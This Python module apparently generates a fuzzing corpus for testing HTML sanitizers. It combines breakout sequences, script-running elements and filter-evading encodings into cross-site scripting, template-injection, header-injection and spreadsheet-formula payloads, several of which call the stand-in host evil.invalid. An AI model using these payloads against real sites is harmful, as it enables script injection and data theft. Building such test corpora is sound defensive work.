"""Texts that would like to be part of a page: every way out of a place, times every way to begin, times ways to write it.

All are made here. Each would leave something to be seen if it came through: an element or attribute named ``wf-pwn``, a mark on the
window, a dialog, a request to another host, a changed title, a violation of the content policy.
"""

# ruff: noqa: E501 - tables of texts
from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALLS = ("window.__pwn=1", "fetch('//evil.invalid/x')", "alert(1)", "document.title='taken'")
# Out of what: text, quoted and bare attributes, raw-text elements, comments, templates, data blocks, scripts' strings.
WAYS_OUT = (
    "", '">', "'>", "`>", ">", "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</template>", "</noscript>", "</svg>", "</table>", "</button>", '"}]}</script>', "*/", "\\\"", "}}", "%}", "\u2028", "\u202e",
)  # fmt: skip
# What begins a program, or an element that would ask for something or take another's name.
STARTS = (
    "<script wf-pwn>{0}</script>", "<img wf-pwn src=x onerror={0}>", "<svg/wf-pwn/onload={0}>", "<body wf-pwn onpageshow={0}>",
    "<details wf-pwn open ontoggle={0}>", "<input wf-pwn autofocus onfocus={0}>", "<a wf-pwn href=javascript:{0}>x</a>",
    "<iframe wf-pwn srcdoc='<script>{0}</script>'></iframe>", "<base wf-pwn href=//evil.invalid/>", "<object wf-pwn data=//evil.invalid/{0}>",
    "<form wf-pwn action=//evil.invalid><button formaction=javascript:{0}>", "<link wf-pwn rel=stylesheet href=//evil.invalid/{0}>",
    "<meta wf-pwn http-equiv=refresh content='0;url=javascript:{0}'>", "<video wf-pwn><source onerror={0}></video>",
    "<style wf-pwn>@import'//evil.invalid/{0}'</style>", "<div wf-pwn style=background:url(//evil.invalid/{0})>",
    "<div wf-pwn hx-get=//evil.invalid hx-trigger=load x-data x-init={0} @click={0}>", "<template wf-pwn><script>{0}</script></template>",
    "<math wf-pwn><mtext><table><mglyph><style><img src onerror={0}>", "<noscript><p wf-pwn title='</noscript><img src onerror={0}>'>",
    "<svg><use wf-pwn href='data:image/svg+xml,<svg onload={0}>'></svg>", "<marquee wf-pwn onstart={0}>x</marquee>",
    "<a wf-pwn id=watchfloor name=htmx>x</a>", "<embed wf-pwn src=javascript:{0}>", "<wf-pwn tabindex=0 onfocusin={0} autofocus>x</wf-pwn>",
)  # fmt: skip
# Out of an attribute without a tag, and addresses and templates that are programs where somebody believes them.
BARE = (
    '" wf-pwn autofocus onfocus={0} x="', "' wf-pwn autofocus onfocus={0} x='", " wf-pwn onmouseover={0} ", '" wf-pwn style="x:expression({0})',
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "\x01javascript:{0}", "javascript://evil.invalid/%0a{0}", "vbscript:{0}",
    "data:text/html,<script wf-pwn>{0}</script>", "//evil.invalid/{0}", "https:evil.invalid/{0}", "\\\\evil.invalid\\{0}",
    "{{{{{0}}}}}", "${{{0}}}", "{{% {0} %}}", "<%= {0} %>", "#{{{0}}}", "[[${{{0}}}]]", "';{0};//", '";{0};//', "`;{0};//", "</x>${{{0}}}",
    '{{"__proto__":{{"wf-pwn":"{0}"}}}}', "=HYPERLINK(\"//evil.invalid\",{0})", "\r\nX-Wf-Pwn: {0}", "%0d%0aSet-Cookie: wf-pwn={0}",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'=" else c for c in text)


def _long_entities(text: str) -> str:
    return "".join(f"&#x{ord(c):06x}" if c in "<>\"'" else c for c in text)


def _named(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&apos;")


def _escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'/" else c for c in text)


def _hex_escapes(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" if c in "<>\"'/" else c for c in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(c):02X}" if c in "<>\"' /" else c for c in text)


def _twice(text: str) -> str:
    return _percent(text).replace("%", "%25")


def _wide(text: str) -> str:
    return text.translate({ord(c): ord(c) + 0xFEE0 for c in "<>\"'=/()"})


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text)).replace("WF-PWN", "wf-pwn")


def _split(text: str) -> str:
    return text.replace("script", "scr\tipt").replace("onerror", "on\nerror").replace("<", "<\u200b", 1)


WRITTEN = (
    lambda text: text, _entities, _long_entities, _named, _escapes, _hex_escapes, _percent, _twice, _wide, _mixed, _split,
)  # fmt: skip

SHORT = (
    "<wf-pwn>", '"><wf-pwn>', "'><wf-pwn>", "<b wf-pwn>", '" wf-pwn="', "' wf-pwn='", "{{7*7}}", "</script>", "--><wf-pwn>", "javascript:x",
)  # fmt: skip


def all_of_them() -> Iterator[str]:
    """Plain ones from every place and to every end, and each start and bare one in every writing."""
    for number, (out, start) in enumerate(product(WAYS_OUT, STARTS)):
        yield out + start.format(CALLS[number % len(CALLS)])
    for number, (text, write) in enumerate(product((*STARTS, *BARE), WRITTEN)):
        yield write(text.format(CALLS[number % len(CALLS)]))


def vectors() -> list[str]:
    """All different ones."""
    return list(dict.fromkeys(all_of_them()))


def few(count: int) -> list[str]:
    """Some that have every way out, every start and every writing among them."""
    made = vectors()
    plain = len(WAYS_OUT) * len(STARTS)
    first = [made[(place * len(STARTS)) + place % len(STARTS)] for place in range(len(WAYS_OUT))]
    rest = made[plain:]
    step = max(1, len(rest) // max(1, count - len(first)))
    return list(dict.fromkeys([*first, *rest[::step]]))[: max(count, len(first))]
